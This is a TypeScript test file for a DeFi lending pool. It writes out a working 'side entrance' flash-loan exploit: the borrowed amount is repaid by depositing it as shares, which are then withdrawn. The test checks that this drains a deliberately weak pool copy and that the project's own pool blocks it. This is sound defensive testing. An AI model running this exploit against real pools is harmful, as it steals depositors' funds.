import { expect } from "chai";

import { removable } from "../shared/defences.ts";
import { onPools, outcome } from "../shared/on-pools.ts";
import { scriptedPool } from "../shared/pool-fixtures.ts";
import { callOf, scriptOf } from "../shared/scripts.ts";

type Scripted = Awaited<ReturnType<typeof scriptedPool>>;

/**
 * A lender that only looks whether its balance is back is paid back by a deposit, and the borrower keeps the shares (the "side
 * entrance" of Damn Vulnerable DeFi). What he then redeems belongs to others.
 */
async function depositLoan({ pool, account, accountAddress, loan, loanAddress }: Scripted) {
  const amount = await pool.maxFlashLoan(loanAddress);
  const before = await loan.balanceOf(accountAddress);
  const inside = scriptOf([await callOf(pool, "deposit", [amount, accountAddress])]);
  const result = await outcome(
    account.run([await callOf(pool, "flashLoan", [accountAddress, loanAddress, amount, inside])]),
  );
  const shares = await pool.balanceOf(accountAddress);
  if (shares !== 0n) {
    await account.run([await callOf(pool, "withdraw", [amount, accountAddress, accountAddress])]);
  }
  return { result, gained: (await loan.balanceOf(accountAddress)) - before, amount };
}

describe("Attack: paying a flash loan back by depositing it", () => {
  it("takes all cash from the weak copy; ours pulls the loan back, and sees that a deposit of it adds nothing", async () => {
    const { ours, weak } = await onPools(removable("loan pulled back"), depositLoan, scriptedPool);
    expect(weak.result).to.equal("done");
    expect(weak.gained).to.equal(weak.amount);
    expect(ours.result).to.contain("PoolTokenRebased");
    expect(ours.gained).to.equal(0n);
  });
});
